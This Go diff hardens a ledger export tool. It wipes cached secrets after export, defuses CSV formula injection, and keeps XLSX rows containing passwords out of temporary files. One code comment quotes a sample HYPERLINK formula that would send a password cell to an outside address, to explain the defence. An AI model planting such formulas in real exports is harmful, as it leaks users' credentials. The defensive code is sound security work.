@@ -6,6 +6,8 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"os"
+	"path/filepath"
 	"slices"
 	"strconv"
 	"strings"
@@ -73,14 +75,23 @@ type bulkRevealer interface {
 }
 
 // revealer returns a function that opens one secret, served from a single
-// bulk read where the reader supports it.
-func revealer(st ledger.Reader) func(kind, id string) ([]byte, error) {
+// bulk read where the reader supports it, and a function that wipes the
+// bulk read's plaintext, to be called (deferred) when the export is done.
+func revealer(st ledger.Reader) (reveal func(kind, id string) ([]byte, error), done func()) {
 	b, ok := st.(bulkRevealer)
 	if !ok {
-		return st.Reveal
+		return st.Reveal, func() {}
 	}
 	cache := map[string]map[string][]byte{}
-	return func(kind, id string) ([]byte, error) {
+	done = func() {
+		for _, m := range cache {
+			for id, v := range m {
+				clear(v)
+				delete(m, id)
+			}
+		}
+	}
+	reveal = func(kind, id string) ([]byte, error) {
 		m, ok := cache[kind]
 		if !ok {
 			var err error
@@ -95,10 +106,12 @@ func revealer(st ledger.Reader) func(kind, id string) ([]byte, error) {
 		}
 		return append([]byte(nil), v...), nil // the caller wipes its copy
 	}
+	return reveal, done
 }
 
 func ledgerRows(st ledger.Reader, cols []string, includeSecrets bool, emit func([]cellValue) error) error {
-	reveal := revealer(st)
+	reveal, wipe := revealer(st)
+	defer wipe()
 	entities, err := st.Entities()
 	if err != nil {
 		return err
@@ -383,7 +396,7 @@ func exportCSV(st ledger.Reader, w io.Writer, includeSecrets bool) error {
 	rec := make([]string, len(cols))
 	err := ledgerRows(st, cols, includeSecrets, func(vals []cellValue) error {
 		for i, v := range vals {
-			rec[i] = textOf(v)
+			rec[i] = defuseFormula(textOf(v))
 		}
 		err := cw.Write(rec)
 		clear(rec)
@@ -397,6 +410,44 @@ func exportCSV(st ledger.Reader, w io.Writer, includeSecrets bool) error {
 		return err
 	}
 	return bw.Flush()
+}
+
+// A CSV cell that starts with = + - @ (or a tab or carriage return) is
+// a formula to Excel, WPS and LibreOffice when the file is opened:
+// =HYPERLINK("http://…?"&J2) in a notes cell would send the password in
+// J2 of the same row to whoever wrote the note. Such cells are written
+// with a leading apostrophe, which those programs show as text, and
+// reading a CSV removes it again (restoreFormula). A cell that already
+// starts with an apostrophe before such a character gets one more, so
+// that the round trip is exact.
+func formulaStart(v string) bool {
+	if v == "" {
+		return false
+	}
+	switch v[0] {
+	case '=', '+', '-', '@', '\t', '\r':
+		return true
+	case '\'':
+		return formulaStart(v[1:])
+	}
+	return false
+}
+
+// defuseFormula prefixes an apostrophe to a cell a spreadsheet would
+// take for a formula.
+func defuseFormula(v string) string {
+	if formulaStart(v) {
+		return "'" + v
+	}
+	return v
+}
+
+// restoreFormula undoes defuseFormula.
+func restoreFormula(v string) string {
+	if len(v) > 1 && v[0] == '\'' && formulaStart(v[1:]) {
+		return v[1:]
+	}
+	return v
 }
 
 func textOf(v cellValue) string {
@@ -416,8 +467,16 @@ func textOf(v cellValue) string {
 
 // ---- XLSX
 
+// noSpill is the temporary folder given to excelize: one that cannot
+// exist (a path under the null device), so that its stream writer keeps
+// the worksheet in memory. Past 16 MiB it would otherwise spill the rows,
+// passwords included, into a file in the system's temporary folder, which
+// an interrupted export leaves behind; failing to create that file, it
+// keeps them in memory (TestXLSXExportWritesNoTemporaryFile holds this).
+var noSpill = filepath.Join(os.DevNull, "no-temporary-files")
+
 func exportXLSX(st ledger.Reader, w io.Writer, includeSecrets bool) error {
-	f := excelize.NewFile()
+	f := excelize.NewFile(excelize.Options{TmpDir: noSpill})
 	defer f.Close()
 	const sheet = "台账"
 	if err := f.SetSheetName("Sheet1", sheet); err != nil {
@@ -540,7 +599,8 @@ const JSONFormat = "beianledger-export/1"
 
 func exportJSON(st ledger.Reader, w io.Writer, includeSecrets bool) error {
 	out := JSONExport{Format: JSONFormat, Credentials: []JSONCredential{}, Contacts: []JSONContact{}}
-	reveal := revealer(st)
+	reveal, wipe := revealer(st)
+	defer wipe()
 	var err error
 	if out.Entities, err = st.Entities(); err != nil {
 		return err
